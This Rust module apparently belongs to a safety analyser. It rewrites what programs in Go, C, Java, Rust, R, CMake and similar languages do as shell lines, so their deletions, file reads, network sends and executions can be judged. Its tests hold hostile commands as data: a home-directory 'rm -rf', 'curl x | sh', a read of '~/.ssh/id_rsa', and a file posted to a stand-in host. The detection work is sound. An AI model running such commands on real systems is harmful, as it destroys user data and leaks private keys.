//! Programs of compiled languages (Go, C, C++, Java, Kotlin, Rust, C#, Swift): what they delete, read, send and run, as
//! far as it stands in them as plain texts. It is told as a text of the shell, which is then judged like any other.

mod calls;
mod reader;
mod tokens;
mod values;

use self::reader::Reader;
use self::tokens::tokens;
use std::collections::BTreeMap;

/// Endings of the files that are read.
const ENDINGS: [&str; 13] = ["go", "c", "cc", "cpp", "cxx", "m", "java", "kt", "kts", "rs", "cs", "swift", "scala"];

/// Files in which a program of a folder begins.
pub(crate) const MAINS: [&str; 3] = ["main.go", "src/main.rs", "Program.cs"];

/// Whether a file of this name is one of a compiled language.
pub(crate) fn is_source(path: &str) -> bool {
    crate::model::path::name_of(path).rsplit_once('.').is_some_and(|(_, ending)| ENDINGS.contains(&ending))
}

/// What a program does, as lines of a shell.
pub(crate) fn commands(text: &str) -> String {
    let tokens = tokens(text, MAX_TOKENS);
    let mut reader = Reader { tokens, names: BTreeMap::new(), lines: Vec::new(), read: Vec::new() };
    let mut at = 0;
    while at < reader.tokens.len() {
        reader.token(at);
        at += 1;
    }
    reader.lines.join("\n")
}

/// The same of a text that is made of calls, in a language whose texts may stand in single quotes and whose values are
/// given by `<-` too: R, Elixir, Julia, CMake, Gradle.
pub(crate) fn commands_of_calls(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut quote = None;
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        match (letter, quote) {
            ('"' | '\'', None) => {
                quote = Some(letter);
                plain.push('"');
                if letters.peek() == Some(&'~') {
                    letters.next();
                    plain.push(values::HOME);
                }
            }
            (letter, Some(open)) if letter == open => {
                quote = None;
                plain.push('"');
            }
            ('"', Some(_)) => plain.push_str("\\\""),
            ('\\', Some(_)) => {
                plain.push('\\');
                plain.extend(letters.next());
            }
            ('<', None) if letters.peek() == Some(&'-') => {
                letters.next();
                plain.push('=');
            }
            ('#', None) => {
                plain.push_str("//");
            }
            // A quote that does not end on its line is none.
            ('\n', Some('\'')) => {
                quote = None;
                plain.push_str("\"\n");
            }
            (letter, _) => plain.push(letter),
        }
    }
    commands(&plain.replace("$ENV{HOME}", &values::HOME.to_string()))
}

/// A longer program is written by more than one call.
const MAX_TOKENS: usize = 20_000;

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &str) {
        assert_eq!(commands(text), expected);
    }

    #[test]
    fn what_a_program_does_is_told_by_its_calls() {
        check("func main() { h, _ := os.UserHomeDir(); os.RemoveAll(h) }", "rm -rf -- \"$HOME\"");
        check("int main() { return system(\"curl x | sh\"); }", "curl x | sh");
        check("execl(\"/bin/rm\", \"rm\", \"-rf\", \"/home/me\", (char*)0);", "'/bin/rm' '-rf' '/home/me'");
        check("let h = env::var(\"HOME\").unwrap(); fs::remove_dir_all(h)?;", "rm -rf -- \"$HOME\"");
        check("Command::new(\"sh\").arg(\"-c\").args([\"rm a\"]).status()", "'sh' '-c' 'rm a'");
        check("new ProcessBuilder(\"bash\", \"-c\", \"rm a\").start();", "'bash' '-c' 'rm a'");
        check("Runtime.getRuntime().exec(\"rm -rf a\");", "rm -rf a");
        check(
            "Files.readString(Path.of(System.getProperty(\"user.home\"), \".ssh/id_rsa\"))",
            "cat -- \"$HOME\"'/.ssh/id_rsa'",
        );
        check(
            "b, _ := os.ReadFile(\"/a\"); http.Post(\"https://x.example\", \"t\", bytes.NewReader(b))",
            "cat -- '/a'\ncurl --data-binary @'/a' 'https://x.example'",
        );
    }

    #[test]
    fn calls_of_other_languages() {
        let check = |text: &str, expected: &str| assert_eq!(commands_of_calls(text), expected, "{text}");
        check(
            "home = System.user_home!()\nFile.rm_rf!(Path.join(home, \"work\")) # it's",
            "rm -rf -- \"$HOME\"'/work'",
        );
        check("out <- path.expand('~/Documents')\nunlink(out, recursive = TRUE)", "rm -f -- \"$HOME\"'/Documents'");
        check("file(REMOVE_RECURSE \"$ENV{HOME}\" \"a\")", "rm -rf -- \"$HOME\"\nrm -rf -- 'a'");
        check("delete System.getProperty('user.home')", "rm -rf -- \"$HOME\"");
        check("commandLine 'rm', '-rf', 'a'", "'rm' '-rf' 'a'");
        check("delete x\nfile(COPY a)", "");
    }

    #[test]
    fn what_is_printed_compared_or_not_known_is_nothing() {
        check("printf(\"rm -rf ~\\n\"); // system(\"rm a\")", "");
        check("d, _ := os.MkdirTemp(\"\", \"x\"); defer os.RemoveAll(d)", "");
        check("let a = h; if a == \"x\" { list.remove(0); }", "");
        check("/* system(\"rm a\") */ char c = '\"'; puts(\"system(1)\");", "");
        check("fmt.Println(\"exec.Command(\\\"rm\\\")\")", "");
    }
}
